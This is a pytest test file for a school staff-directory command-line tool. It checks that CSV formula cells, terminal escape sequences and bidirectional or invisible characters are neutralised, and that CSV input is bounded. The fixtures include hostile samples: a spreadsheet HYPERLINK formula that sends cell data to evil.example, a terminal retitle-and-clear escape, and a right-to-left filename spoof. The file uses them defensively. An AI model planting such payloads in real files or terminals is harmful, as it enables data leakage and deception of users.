"""Hostile input and output that cannot be turned against the reader (issue 11): formula cells in
--format csv, terminal escapes and bidi/invisible characters in tables and messages, such characters
refused in names and free text going into the directory or the store, bounded CSV input, and the
smaller promises (--debug keeps the exit code, a garbage ca_file, tasks done with a huge id)."""

from __future__ import annotations

import csv
import io
import os
import ssl
import subprocess
import sys
import time
from pathlib import Path

import ldap3
import pytest
from cli_helpers import payload
from cli_helpers import run_main as run

from aupctl import csvfile, text
from aupctl.config import load
from aupctl.errors import InputError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TITLE = "vm\x1b]0;PWNED\x07\x1b[2J"  # retitles the terminal, then clears the screen
BIDI = "Smith\u202egnp.exe"  # shows as "Smithexe.png"
UNSAFE_SAMPLES = ["\x1b", "\x07", "\x7f", "\x9b", "\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\ufeff", "\u2060"]


def admin_conn(info) -> ldap3.Connection:
    tls = ldap3.Tls(ca_certs_file=str(info.ca_file), validate=ssl.CERT_REQUIRED)
    server = ldap3.Server(info.urls[0], use_ssl=True, tls=tls, connect_timeout=5)
    return ldap3.Connection(server, info.admin_dn, info.admin_password, auto_bind=True)


def admin_add(info, cfg, username: str, given: str, surname: str, display: str, **extra: str) -> str:
    """A person made by hand, straight through ldap3 as the rootdn: no aupctl check in the way."""
    from ldap3.utils.dn import escape_rdn

    ou = cfg.dn(cfg.roles["teacher"].ou)
    dn = f"uid={escape_rdn(username)},{ou}"
    conn = admin_conn(info)
    attrs = {"uid": username, "givenName": given, "sn": surname, "cn": display, "displayName": display, **extra}
    assert conn.add(dn, ["inetOrgPerson"], attrs), conn.result
    conn.unbind()
    return dn


def no_raw_unsafe(output: str) -> None:
    bad = [c for c in output if text.unsafe(c) and c not in "\n"]
    assert not bad, f"raw unsafe characters reached the output: {[hex(ord(c)) for c in bad]}"


def test_hostile_names_from_the_directory_are_inert_and_escaped(fresh_openldap) -> None:
    info = fresh_openldap
    cfg = load(str(info.config_path))
    admin_add(info, cfg, "evilformula", FORMULA, "-2+3", FORMULA, mail="@SUM(1+1)@example.test")
    admin_add(info, cfg, "evilterm", "Eve", BIDI, f"{TITLE} {BIDI}\u200b\u0085")
    # put in SIMS Users by hand, with no approval: a finding of `access review` about "-evil"
    evil = admin_add(info, cfg, "-evil", "Minus", "Evil", "-Evil")
    conn = admin_conn(info)
    assert conn.modify(cfg.group_dn(cfg.systems["sims"].group), {"member": [(ldap3.MODIFY_ADD, [evil])]}), conn.result
    conn.unbind()

    # CSV: every cell from the directory that a spreadsheet would run is quoted, as in the credentials file
    code, out, err = run("--format", "csv", "staff", "list", config=info.config_path)
    assert code == 0, err
    rows = {r["username"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["evilformula"]["name"] == "'" + FORMULA
    assert rows["evilformula"]["email"] == "'@SUM(1+1)@example.test"
    for row in rows.values():
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row

    # findings too
    code, out, err = run("--format", "csv", "access", "review", config=info.config_path)
    assert code == 1, err
    about = [r for r in csv.DictReader(io.StringIO(out)) if "evil" in r["subject"].lower()]
    assert about and all(r["subject"] == "'-evil" for r in about), about

    # the table: escapes shown, never sent to the terminal
    code, out, err = run("staff", "list", config=info.config_path)
    assert code == 0, err
    no_raw_unsafe(out + err)
    assert "vm\\x1b]0;PWNED\\x07\\x1b[2J" in out and "Smith\\u202egnp.exe\\u200b\\x85" in out

    code, out, err = run("staff", "show", "evilterm", config=info.config_path)
    assert code == 0, err
    no_raw_unsafe(out + err)
    assert "\\x1b]0;PWNED" in out

    # JSON keeps the exact value (a program reads it), written with escapes a terminal does not obey
    code, out, err = run("--format", "json", "staff", "list", config=info.config_path)
    assert code == 0, err
    no_raw_unsafe(out)
    names = {r["username"]: r["name"] for r in payload(out)}
    assert names["evilterm"] == f"{TITLE} {BIDI}\u200b\u0085" and names["evilformula"] == FORMULA

    # an error message that quotes the input escapes it too
    code, out, err = run("staff", "show", TITLE, config=info.config_path)
    assert code == 2
    no_raw_unsafe(err)


@pytest.mark.parametrize("bad", UNSAFE_SAMPLES)
def test_text_problem_names_the_character(bad: str) -> None:
    why = text.problem(f"Zo{bad}ë")
    assert why and text.escape_char(bad) in why and "character 3" in why
    with pytest.raises(InputError):
        text.refuse_unsafe(f"a{bad}", "--reason")
    assert text.unsafe(bad)
    assert bad not in text.shown(f"a{bad}b") and text.escape_char(bad) in text.shown(f"a{bad}b")


def test_ordinary_names_pass() -> None:
    for name in ["Zoë O'Brien-Smith", "Łukasz Wróbel", "Nguyễn Thị Minh Khai", "محمد", "李小龍", "Ødegaard, Jr (*)"]:
        assert text.problem(name) is None and text.shown(name) == name
    assert text.shown("two\nlines", newlines=True) == "two\nlines"
    assert text.shown("two\nlines") == "two\\x0alines"
    for cell, want in [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ]:
        assert text.inert(cell) == want


def intake_file(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["first_name", "last_name", "role", "staff_code", "department"])
        w.writerows(rows)
    return path


def test_unsafe_characters_in_names_and_free_text_are_refused(openldap_sandbox, tmp_path: Path) -> None:
    info = openldap_sandbox
    cfgp = info.config_path
    cfg = load(str(cfgp))
    f = intake_file(
        tmp_path / "new.csv",
        [
            ["Alice", "Good", "teacher", "HX1", "Maths"],
            ["Bob\u202e", "Bidi", "teacher", "HX2", "Maths"],
            ["Carol", "Zero\u200bWidth", "teacher", "HX3", "Maths"],
            ["Dan", "Cone", "teacher", "HX4", "Sci\x9bence"],
            ["Eve", "Esc", "teacher", "HX5\x1b[2J", "Maths"],
        ],
    )
    code, out, err = run("staff", "import", str(f), "--dry-run", config=cfgp)
    assert code == 2, err
    for needle in [
        "line 3: first_name: holds a bidirectional-text control (\\u202e at character 4)",
        "line 4: last_name: holds an invisible formatting character (\\u200b at character 5)",
        "line 5: department: holds a control character (\\x9b at character 4)",
        "line 6: staff_code: holds a control character (\\x1b at character 4)",
    ]:
        assert needle in err, err
    no_raw_unsafe(err)
    from aupctl.directory import open_directory

    with open_directory(cfg) as d:
        assert not list(d.search(cfg.directory.base_dn, "(employeeNumber=HX1)", ["1.1"]))

    # free text for the store, from the command line and from a CSV
    from aupctl.laptops import inventory
    from aupctl.state import State

    inventory.add(
        State(cfg.state.path),
        cfg,
        tag="HX-LT-1",
        host="hx-lt-1.test",
        port=22,
        os_name="linux",
        key_type="ssh-ed25519",
        key_b64="AAAAC3NzaC1lZDI1NTE5AAAAIE1ww1WyMDlwZhHrKSHlrmY9+dmnYCSjL8pW7GY0iG5G",
        fp="SHA256:" + "E" * 43,
    )
    user = "kmensah"
    for args, needle in [
        (["leaver", "withdraw", user, "--reason", "resigned\x1b]0;x\x07", "--dry-run"], "--reason holds a control"),
        (["aup", "sign", user, "--version", "2026\u202e", "--dry-run"], "--version holds a bidirectional"),
        (["access", "grant", user, "sims", "--approved-by", "x", "--reason", "\u2066why", "--yes"], "--reason holds"),
        (["access", "revoke", user, "sims", "--reason", "gone\u200d", "--yes"], "--reason holds an invisible"),
        (["access", "adopt", "sims", "--approved-by", "Mrs\u202e Patel", "--yes"], "--approved-by holds a bidi"),
        (["laptop", "assign", "HX-LT-1", "zo\u200be", "--yes"], "holds an invisible formatting character"),
    ]:
        code, out, err = run(*args, config=cfgp)
        assert code == 2, (args, err)
        assert needle in err, (args, err)
        no_raw_unsafe(err)

    wave = tmp_path / "wave.csv"
    wave.write_text("username,leaving_date,reason\nkmensah,2099-07-22,end of contract\x1b[2J\n", encoding="utf-8")
    code, out, err = run("leaver", "withdraw", "--from-csv", str(wave), "--dry-run", config=cfgp)
    assert code == 2 and "line 2: reason: holds a control character" in err, err

    sigs = tmp_path / "sigs.csv"
    sigs.write_text("username,version\nkmensah,2026\u200b\n", encoding="utf-8")
    code, out, err = run("aup", "import", str(sigs), "--dry-run", config=cfgp)
    assert code == 2 and "line 2" in err and "version holds an invisible" in err, err


def test_tasks_done_with_an_id_beyond_any_integer(openldap_sandbox) -> None:
    cfgp = openldap_sandbox.config_path
    code, out, err = run("tasks", "done", "99999999999999999999", config=cfgp)
    assert code == 2, err
    assert "99999999999999999999" in err and "internal error" not in err
    from aupctl.records import tasks
    from aupctl.state import State

    st = State(load(str(cfgp)).state.path)
    tid = tasks.open_task(st, kind="grant", text="by hand", username="kmensah", system="sap")
    st.close()
    code, out, err = run("tasks", "done", str(tid), "--note", "SD-1\u202e", "--yes", config=cfgp)
    assert code == 2 and "--note holds a bidirectional-text control" in err, err
    code, out, err = run("--format", "json", "tasks", "list", "--open", config=cfgp)
    assert tid in [r["id"] for r in payload(out)]  # not closed


# -- bounded CSV input --

REQ = ["first_name", "last_name", "role"]


def test_csv_reads_only_regular_files_of_bounded_size(tmp_path: Path) -> None:
    for path, needle in [("/dev/zero", "not a regular file"), (str(tmp_path), "is a directory")]:
        started = time.monotonic()
        with pytest.raises(InputError, match=needle):
            csvfile.read(path, required=REQ)
        assert time.monotonic() - started < 1
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    started = time.monotonic()
    with pytest.raises(InputError, match="not a regular file"):
        csvfile.read(fifo, required=REQ)  # no writer: opening it must not wait for one
    assert time.monotonic() - started < 1

    big = tmp_path / "big.csv"
    big.write_bytes(b"first_name,last_name,role\n" + b"A,B,teacher\n" * 1000)
    with pytest.raises(InputError, match=r"more than 1000 bytes: .*\[import\] max_bytes"):
        csvfile.read(big, required=REQ, max_bytes=1000)
    assert len(csvfile.read(big, required=REQ, max_bytes=20000).rows) == 1000


def test_csv_symlink_to_a_device_is_refused(tmp_path: Path) -> None:
    link = tmp_path / "staff.csv"
    link.symlink_to("/dev/zero")
    with pytest.raises(InputError, match="not a regular file"):
        csvfile.read(link, required=REQ)


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        ("\ufefffirst_name,last_name,role\nZo\xeb,B,teacher\n".encode("utf-16")[:-1], "odd number of bytes"),
        (b"\xef\xbb\xbffirst_name,last_name,role\nZo\xeb,B,teacher\n", "byte offset 31 (line 2)"),
        (b"\xff\xfef\x00i\x00\x00\xd8,\x00", "byte offset 6 (line 1)"),  # UTF-16 with a lone surrogate
    ],
)
def test_csv_decode_errors_name_the_file_and_byte(tmp_path: Path, data: bytes, needle: str) -> None:
    p = tmp_path / "in.csv"
    p.write_bytes(data)
    with pytest.raises(InputError) as exc:
        csvfile.read(p, required=REQ)
    assert str(p) in exc.value.message and needle in exc.value.message, exc.value.message


def test_staff_import_dev_zero_exits_2_promptly(openldap_sandbox, tmp_path: Path) -> None:
    started = time.monotonic()
    code, out, err = run("staff", "import", "/dev/zero", "--dry-run", config=openldap_sandbox.config_path)
    assert code == 2 and "/dev/zero" in err and "not a regular file" in err, err
    assert time.monotonic() - started < 5
    # the limit comes from the config
    text_ = openldap_sandbox.config_path.read_text()
    small = tmp_path / "small.toml"
    small.write_text(text_ + "\n[import]\nmax_bytes = 100\n")
    small_csv = intake_file(tmp_path / "s.csv", [["Alice", f"Good{i}", "teacher", f"HS{i}", "Maths"] for i in range(9)])
    code, out, err = run("staff", "import", str(small_csv), "--dry-run", config=small)
    assert code == 2 and "[import] max_bytes" in err, err


def test_aup_text_that_is_a_device_is_refused_promptly(openldap_sandbox, tmp_path: Path) -> None:
    text_ = openldap_sandbox.config_path.read_text()
    assert "[school]\n" in text_
    cfgp = openldap_sandbox.config_path.parent / f"variant-{tmp_path.name}.toml"
    cfgp.write_text(text_.replace("[school]\n", '[school]\naup_text = "/dev/zero"\n', 1))
    started = time.monotonic()
    code, out, err = run("aup", "sign", "kmensah", "--dry-run", config=cfgp)
    assert code == 2 and "school.aup_text /dev/zero is not a regular file" in err, err
    assert time.monotonic() - started < 5


# -- the smaller promises --


def _dead_config(sandbox, tmp_path: Path, old: str, new: str) -> Path:
    text_ = sandbox.config_path.read_text()
    assert old in text_
    p = sandbox.config_path.parent / f"variant-{tmp_path.name}.toml"
    p.write_text(text_.replace(old, new, 1))
    return p


def test_debug_keeps_the_exit_code(openldap_sandbox, tmp_path: Path) -> None:
    url = next(x for x in openldap_sandbox.config_path.read_text().splitlines() if x.startswith("url"))
    dead = _dead_config(openldap_sandbox, tmp_path, url, 'url = "ldaps://127.0.0.1:9"')
    env = {**os.environ, "AUPCTL_CONFIG": str(dead)}
    for extra, traceback in (([], False), (["--debug"], True)):
        res = subprocess.run(
            [sys.executable, "-m", "aupctl.commands", *extra, "staff", "list"],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert res.returncode == 3, res.stderr
        assert ("Traceback" in res.stderr) is traceback, res.stderr
        assert "aupctl: cannot reach the directory" in res.stderr


def test_garbage_ca_file_says_so(openldap_sandbox, tmp_path: Path) -> None:
    garbage = tmp_path / "ca.pem"
    garbage.write_bytes(os.urandom(600))
    ca = next(x for x in openldap_sandbox.config_path.read_text().splitlines() if x.startswith("ca_file"))
    cfgp = _dead_config(openldap_sandbox, tmp_path, ca, f'ca_file = "{garbage}"')
    code, out, err = run("staff", "list", config=cfgp)
    assert code == 2, err
    assert f"ca_file {garbage} is not a PEM certificate" in err and "cannot reach" not in err


def test_the_config_and_password_files_are_read_only_when_regular_and_small(tmp_path: Path) -> None:
    """--config /dev/zero or a bind_password_file that is a device: a clear message, never read to the end."""
    code, out, err = run("--config", "/dev/zero", "config", "check")
    assert code == 2 and "/dev/zero" in err and "not a regular file" in err, err
    from aupctl.credentials import read_secret_file
    from aupctl.errors import ConfigError

    fifo = tmp_path / "pw.fifo"
    os.mkfifo(fifo, 0o600)
    with pytest.raises(ConfigError, match="not a regular file"):
        read_secret_file(str(fifo), "bind password")


def test_doctor_names_a_garbage_ca_file_as_a_config_fault(openldap_sandbox, tmp_path: Path) -> None:
    garbage = tmp_path / "ca.pem"
    garbage.write_bytes(os.urandom(600))
    ca = next(x for x in openldap_sandbox.config_path.read_text().splitlines() if x.startswith("ca_file"))
    cfgp = _dead_config(openldap_sandbox, tmp_path, ca, f'ca_file = "{garbage}"')
    code, out, err = run("doctor", config=cfgp)
    assert code == 2, out + err
    words = " ".join(out.split())  # the detail wraps inside its column
    assert "not a PEM certificate" in words and "cannot reach" not in words


def test_doctor_table_shows_no_escaped_styling_or_newlines(openldap_sandbox) -> None:
    """Its coloured status and wrapped details are ours: they must not come out as literal \\x1b or \\x0a."""
    code, out, err = run("doctor", config=openldap_sandbox.config_path)
    assert code == 0, out + err
    assert "\\x1b" not in out and "\\x0a" not in out and "\x1b" not in out, out
    assert max(len(line) for line in out.splitlines()) <= 120, out
